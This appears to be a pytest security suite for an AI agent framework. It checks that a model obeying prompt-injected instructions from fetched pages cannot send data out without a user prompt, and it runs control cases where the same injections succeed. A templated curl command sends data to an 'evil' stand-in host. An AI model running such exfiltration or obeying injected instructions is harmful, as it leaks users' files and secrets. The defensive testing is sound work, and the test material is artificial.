"""Injected instructions: a model that obeys them cannot send anything unasked, and ordinary work asks as before."""

import asyncio
import re
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from outrider import Rules
from outrider.sessions.records import SessionTranscript, StoredSession
from outrider.types.ids import new_id
from outrider.types.origins import EgressBudget
from outrider.types.tool_state import ToolError
from tests.fixtures.cases import for_each
from tests.fixtures.sandbox_workspace import sandbox_or_skip, scratch_folder
from tests.fixtures.soak import SOAK
from tests.security.injections import SCENARIOS, Outcome, Scenario, World, fetch, play_all, sh, use
from tests.security.ordinary_tasks import RULES, OrdinaryModel

READS = [fetch("{docs}/page"), use("read", path="src/config.py")]
ALLOW_EVERYTHING = {"*": EgressBudget()}
# Loopback names are not resolved everywhere, and nothing can be sent then.
NO_CONTROL = "a web page → a host name"
# Outside `make soak` every fifth task and control is played: each takes a tenth of a second of a processor.
SHARE = 1 if SOAK else 5


@pytest.fixture(scope="module")
def place() -> Iterator[Path]:
    """A folder outside /tmp, which is private to sandboxed commands."""
    with tempfile.TemporaryDirectory(dir=scratch_folder()) as folder:
        yield Path(folder)


@pytest.fixture(scope="module")
def sandbox(place: Path):
    return sandbox_or_skip(place / "scratch")


@pytest.fixture(scope="module")
def outcomes(place: Path, sandbox) -> Iterator[dict[str, Outcome]]:
    world = World(place / "world", sandbox)
    yield asyncio.run(play_all(world, SCENARIOS))
    world.close()


@pytest.fixture(scope="module")
def controls(place: Path, sandbox) -> Iterator[dict[str, Outcome]]:
    world = World(place / "open", sandbox, allowed=ALLOW_EVERYTHING)
    chosen = [scenario for scenario in SCENARIOS if scenario.name != NO_CONTROL]
    yield asyncio.run(play_all(world, chosen[::SHARE]))
    world.close()


def test_there_are_enough_scenarios():
    assert len({scenario.name for scenario in SCENARIOS}) == len(SCENARIOS) >= 60


@for_each("name", [scenario.name for scenario in SCENARIOS])
def test_nothing_leaves_the_machine_without_a_question(name: str, outcomes):
    outcome = outcomes[name]
    assert outcome.leaked == []
    assert outcome.calls, "nothing was played"
    for event in outcome.asked:
        flow = event.flow or (event.outcome.flow if event.outcome else None)
        assert flow is None or (flow.untrusted and flow.destination in event.description)


def test_what_is_not_a_command_is_asked_about_with_its_reason(outcomes):
    unasked = ("python", "a shell socket", "a script", "a background command", "background mode")
    for scenario in SCENARIOS:
        if not any(name in scenario.name for name in unasked):
            assert any(event.flow or event.outcome for event in outcomes[scenario.name].asked), scenario.name


def test_background_mode_explains_the_refusal(outcomes):
    refused = outcomes["background mode → a query"].calls[-1].state
    assert isinstance(refused, ToolError)
    assert refused.reason == "denied"
    assert "src/config.py" in refused.error
    assert "(web)" in refused.error
    blocked = outcomes["background mode → curl"].calls[-1].state
    assert "this session has read" in blocked.text


def test_without_the_policy_the_same_instructions_succeed(controls):
    assert [name for name, outcome in controls.items() if not outcome.leaked] == []


async def test_hosts_on_the_list_get_data_without_a_question_within_their_budget(place, sandbox):
    world = World(place / "listed", sandbox)
    host = f"127.0.0.1:{world.evil.port}"
    world.flow.allowed[host] = EgressBudget(requests=3, bytes=10_000)
    orders = [fetch(f"{{evil}}/{number}") for number in range(5)]
    outcome = (await play_all(world, [Scenario("listed", READS, orders)]))["listed"]
    world.close()
    assert len(outcome.leaked) == 3
    assert len(outcome.asked) == 2
    assert all(event.flow and event.flow.destination == host for event in outcome.asked)


async def test_an_answer_for_the_session_covers_the_destination(place, sandbox):
    world = World(place / "answered", sandbox)
    world.allow = True
    orders = [fetch("{evil}/one"), fetch("{evil}/two"), use("mcp__tracker__post_comment", body="x")]
    outcome = (await play_all(world, [Scenario("answered", READS, orders)]))["answered"]
    world.close()
    asked = [event.flow.destination for event in outcome.asked if event.flow]
    assert asked == [f"127.0.0.1:{world.evil.port}", "mcp:tracker"]
    assert len(outcome.leaked) == 3


@pytest.mark.parametrize("listed", [False, True])
async def test_commands_lose_the_hosts_of_the_sandbox_unless_they_are_listed(place, sandbox, listed: bool):
    world = World(place / f"hosts-{listed}", sandbox)
    world.hosts = (f"127.0.0.1:{world.evil.port}",)
    if listed:
        world.flow.allowed[world.hosts[0]] = EgressBudget(requests=1)
    send = "curl -s -m 2 --proxy $http_proxy --noproxy '' '{evil}/"
    steps = [sh(send + "one'"), *READS], [sh(send + "two'"), sh(send + "three'")]
    outcome = (await play_all(world, [Scenario("hosts", *steps)], Rules(allow=("web_fetch",))))["hosts"]
    world.close()
    assert [target.split()[0] for target in outcome.leaked] == (["/one", "/two"] if listed else ["/one"])
    assert sum(event.tool_name == "shell" for event in outcome.asked) == (1 if listed else 2)


def test_ordinary_work_asks_hardly_more(place, sandbox):
    counts: dict[str, list[tuple[str, int]]] = {}
    for name, allowed in (("with", None), ("without", ALLOW_EVERYTHING)):
        world = World(place / f"ordinary-{name}", sandbox, allowed=allowed)
        counts[name] = asyncio.run(_count_questions(world))
        world.close()
    total = sum(asked for _, asked in counts["without"])
    more = [(task, asked - usual) for (task, asked), (_, usual) in zip(counts["with"], counts["without"], strict=True)]
    assert total >= len(more) // 2, "the tasks ask nothing at all"
    assert sum(count for _, count in more) <= max(1, total * 0.05), [task for task, count in more if count]


async def _count_questions(world: World) -> list[tuple[str, int]]:
    model = world.model = OrdinaryModel(world.docs.url, str(world.remote))
    world.allow = True
    asked: list[tuple[str, int]] = []
    async with world.engine(RULES) as engine:
        for task in list(model.tasks)[::SHARE]:
            world.clear()
            session = await engine.create(workspace=world.prepare(Scenario(task, [], [])))
            await engine.prompt(session, task)
            asked.append((task, len(world.asked)))
            await engine.close(session)
    return asked


def test_the_page_and_shared_files_load_no_remote_images():
    from outrider.presentation.share_page import render_share_page
    from outrider.server import auth

    session = StoredSession(id=new_id(), agent="a", workspace_directory="/w")
    shared = render_share_page(SessionTranscript(session, []))
    for text in (Path(str(auth.__file__)).read_text(encoding="utf-8"), shared):
        images = re.findall(r"img-src ([^;\n]*)", text)
        assert images
        assert not any("http" in sources or "*" in sources for sources in images)
